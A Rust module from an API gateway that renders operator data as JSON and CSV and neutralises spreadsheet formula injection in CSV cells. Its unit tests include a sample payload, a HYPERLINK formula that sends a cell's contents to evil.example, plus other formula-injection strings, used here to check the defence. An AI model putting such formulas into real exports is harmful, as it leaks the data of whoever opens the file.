//! How the operator's side shows things, in JSON (the admin API and the CLI's `--json`) and CSV:
//! every amount a decimal string, every time both Unix milliseconds and RFC 3339.

use serde_json::{Value, json};
use tollgate_gateway_core::clock::format_rfc3339;
use tollgate_store::{
    AccessPolicy, Account, AccountReport, LedgerEntry, PolicyHolder, PriceGroup, Task, UsageGroup,
    UsageRecord, UsageSummary,
};

/// An account.
pub fn account(a: &Account) -> Value {
    json!({
        "id": a.id,
        "name": a.name,
        "balance": a.balance,
        "held": a.held,
        "leased": a.leased,
        "available": a.available(),
        "disabled": a.disabled,
        "created_at": a.created_at,
    })
}

/// An account with its keys, usage by model and ledger totals.
pub fn report(r: &AccountReport) -> Value {
    let mut v = account(&r.account);
    v["open_holds"] = json!(r.open_holds);
    v["keys"] = json!(r.keys);
    v["usage"] = json!(r.usage);
    v["ledger_rows"] = json!(r.ledger_rows);
    v["ledger_sum"] = json!(r.ledger_sum);
    v
}

/// The id of a policy's holder.
pub fn holder_id(holder: &PolicyHolder) -> &str {
    match holder {
        PolicyHolder::Account(id) | PolicyHolder::Key(id) => id,
    }
}

/// A policy, with its holder (`"account": id` or `"key": id`).
pub fn policy(holder: &PolicyHolder, p: &AccessPolicy) -> Value {
    let kind = match holder {
        PolicyHolder::Account(_) => "account",
        PolicyHolder::Key(_) => "key",
    };
    json!({
        kind: holder_id(holder),
        "models": p.models,
        "endpoints": p.endpoints,
        "expires_at": p.expires_at.map(format_rfc3339),
        "ips": p.networks,
        "group": p.group,
        "rpm": p.rpm,
        "per_minute": p.per_minute,
        "concurrency": p.concurrency,
        "streams": p.streams,
        "daily_budget": p.daily_budget,
        "monthly_budget": p.monthly_budget,
        "tasks_in_flight": p.tasks_in_flight,
    })
}

/// A price group: name, multiplier, and models' own multipliers.
pub fn group(g: &PriceGroup) -> Value {
    let models: serde_json::Map<String, Value> = g
        .models
        .iter()
        .map(|(k, v)| (k.clone(), json!(v.to_string())))
        .collect();
    json!({"name": g.name, "multiplier": g.multiplier.to_string(), "models": models})
}

/// A price version (`tollgate_store::StoredPrice`), its times also in RFC 3339.
pub fn price(p: &tollgate_store::StoredPrice) -> Value {
    let mut v = serde_json::to_value(p).unwrap_or(Value::Null);
    v["effective_from_time"] = json!(format_rfc3339(p.effective_from));
    v["created_time"] = json!(format_rfc3339(p.created_at));
    v
}

/// What a request was charged, explained (`GET /admin/v1/requests/{id}`, `tollgate explain
/// --json`): the client's `GET /v1/charges/{id}` answer, with what only the operator sees.
pub fn request_charges(request_id: &str, found: &tollgate_store::RequestCharges) -> Value {
    // A request id may be a client's own: several accounts' requests can share it, and their
    // charges are never added together as one request's.
    let accounts: Vec<Value> = found
        .accounts()
        .into_iter()
        .map(|a| json!({"account_id": a, "charged": found.charged_to(a)}))
        .collect();
    json!({
        "object": "tollgate.charges",
        "request_id": request_id,
        "charged": found.charged(),
        "accounts": accounts,
        "data": found.charges,
        "records": found.records,
        "disagree": found.disagree,
    })
}

/// A ledger row.
pub fn ledger_entry(e: &LedgerEntry) -> Value {
    let mut v = serde_json::to_value(e).unwrap_or(Value::Null);
    v["time"] = json!(format_rfc3339(e.created_at));
    v
}

/// A usage record.
pub fn usage_record(r: &UsageRecord) -> Value {
    let mut v = serde_json::to_value(r).unwrap_or(Value::Null);
    v["time"] = json!(format_rfc3339(r.created_at));
    v
}

/// A task as the operator sees it (the client's request and result included).
pub fn task(t: &Task) -> Value {
    json!({
        "id": t.id,
        "format": t.format,
        "account_id": t.account_id,
        "key_id": t.key_id,
        "model": t.model,
        "channel": t.channel,
        "upstream_model": t.upstream_model,
        "upstream_id": t.upstream_id,
        "state": t.state,
        "upstream_status": t.upstream_status,
        "progress": t.progress,
        "hold_id": t.hold_id,
        "request": t.request,
        "result": t.result,
        "error": t.error,
        "created_at": t.created_at,
        "updated_at": t.updated_at,
        "deadline_at": t.deadline_at,
        "next_poll_at": t.next_poll_at,
        "poll_failures": t.poll_failures,
    })
}

/// The columns of a usage record in CSV, in order.
pub const RECORD_COLUMNS: &[&str] = &[
    "time",
    "kind",
    "account",
    "key",
    "group",
    "endpoint",
    "model",
    "channel",
    "status",
    "meter",
    "units",
    "charge",
    "hold",
    "latency_ms",
    "upstream_ms",
    "estimated",
    "request_id",
    "task_id",
    "note",
];

/// A usage record's cells, in [`RECORD_COLUMNS`] order.
pub fn record_cells(r: &UsageRecord) -> Vec<String> {
    let opt = |v: &Option<String>| v.clone().unwrap_or_default();
    vec![
        format_rfc3339(r.created_at),
        r.kind.to_owned(),
        r.account_id.clone(),
        opt(&r.key_id),
        opt(&r.price_group),
        r.endpoint.clone(),
        opt(&r.model),
        opt(&r.channel),
        r.status.to_string(),
        opt(&r.meter),
        r.units.to_string(),
        r.charge.to_string(),
        r.hold.to_string(),
        r.latency_ms.to_string(),
        r.upstream_ms.map(|u| u.to_string()).unwrap_or_default(),
        r.estimated.to_string(),
        opt(&r.request_id),
        opt(&r.task_id),
        opt(&r.note),
    ]
}

/// The columns of a usage total.
pub const SUMMARY_COLUMNS: &[&str] = &["group", "meter", "requests", "errors", "units", "charge"];

/// A usage total's cells, in [`SUMMARY_COLUMNS`] order (a time bucket as RFC 3339).
pub fn summary_cells(group: UsageGroup, s: &UsageSummary) -> Vec<String> {
    let name = if group.is_time() {
        s.group
            .parse::<i64>()
            .map(format_rfc3339)
            .unwrap_or_else(|_| s.group.clone())
    } else {
        s.group.clone()
    };
    vec![
        name,
        s.meter.clone().unwrap_or_else(|| "-".into()),
        s.requests.to_string(),
        s.errors.to_string(),
        s.units.to_string(),
        s.charge.to_string(),
    ]
}

/// A usage total.
pub fn summary(group: UsageGroup, s: &UsageSummary) -> Value {
    let cells = summary_cells(group, s);
    json!({
        "group": cells[0], "meter": s.meter, "requests": s.requests,
        "errors": s.errors, "units": s.units, "charge": s.charge,
    })
}

/// One CSV line (RFC 4180), without its line break: a field with a comma, quote or line break
/// is quoted, its quotes doubled. A text field that a spreadsheet would run as a formula — one
/// that starts with `=`, `+`, `-`, `@`, a tab or a carriage return — gets a `'` in front (OWASP's
/// CSV injection advice), so that it shows as the text it is; a number (`-0.5`, `12`) stays a
/// number (`docs/decisions.md`, "The usage log").
pub fn csv_line(cells: &[String]) -> String {
    cells
        .iter()
        .map(|c| {
            let c = neutralised(c);
            if c.contains([',', '"', '\n', '\r']) {
                format!("\"{}\"", c.replace('"', "\"\""))
            } else {
                c.into_owned()
            }
        })
        .collect::<Vec<_>>()
        .join(",")
}

/// `cell` as a spreadsheet may open it: a would-be formula prefixed with `'`.
fn neutralised(cell: &str) -> std::borrow::Cow<'_, str> {
    let formula = cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
    if formula && !is_number(cell) {
        std::borrow::Cow::Owned(format!("'{cell}"))
    } else {
        std::borrow::Cow::Borrowed(cell)
    }
}

/// A plain decimal number, signed: `-0.5`, `+12`, `3`.
fn is_number(cell: &str) -> bool {
    let digits = cell.strip_prefix(['-', '+']).unwrap_or(cell);
    let (whole, fraction) = digits.split_once('.').unwrap_or((digits, "0"));
    !whole.is_empty()
        && !fraction.is_empty()
        && whole.bytes().all(|b| b.is_ascii_digit())
        && fraction.bytes().all(|b| b.is_ascii_digit())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn csv_quotes_what_needs_quoting() {
        let cells = vec!["a".to_owned(), "b,c".to_owned(), "say \"hi\"".to_owned()];
        assert_eq!(csv_line(&cells), "a,\"b,c\",\"say \"\"hi\"\"\"");
    }

    /// Issue 22 item 3: a client-chosen text that a spreadsheet would run is shown as text;
    /// numbers stay numbers.
    #[test]
    fn formulas_are_neutralised_and_numbers_are_not() {
        let cell = |c: &str| csv_line(&[c.to_owned()]);
        assert_eq!(
            cell(r#"=HYPERLINK("https://evil.example/?k="&C2,"open")"#),
            r#""'=HYPERLINK(""https://evil.example/?k=""&C2,""open"")""#
        );
        for formula in ["+1+2", "-cmd", "@SUM(A1)", "\tx", "\rx"] {
            assert!(
                cell(formula).trim_start_matches('"').starts_with('\''),
                "{formula:?}"
            );
        }
        for number in ["-0.5", "12", "+3", "0.000000001", "-12"] {
            assert_eq!(cell(number), number);
        }
        assert_eq!(cell("-1-2"), "'-1-2");
        assert_eq!(cell("req_abc"), "req_abc");
    }
}
